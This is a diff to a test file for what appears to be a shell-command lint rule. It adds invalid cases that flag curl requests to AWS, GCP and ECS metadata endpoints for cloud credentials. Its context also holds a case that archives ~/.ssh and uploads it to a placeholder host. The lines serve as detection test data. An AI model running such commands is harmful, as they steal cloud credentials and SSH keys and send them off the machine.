@@ -24,6 +24,18 @@ testShellRule(rule, {
   ],
   invalid: [
     {
+      code: 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/',
+      errors: [{ messageId: 'metadataCredentials', line: 1, column: 9 }],
+    },
+    {
+      code: "curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
+      errors: [{ messageId: 'metadataCredentials', line: 1, column: 35 }],
+    },
+    {
+      code: 'curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI > /tmp/c.json',
+      errors: [{ messageId: 'metadataCredentials', line: 1, column: 9 }],
+    },
+    {
       code: 'tar czf /tmp/k.tgz ~/.ssh && curl -T /tmp/k.tgz https://x.example/',
       errors: [{ messageId: 'flow', line: 1, column: 30, severity: 'error' }],
     },
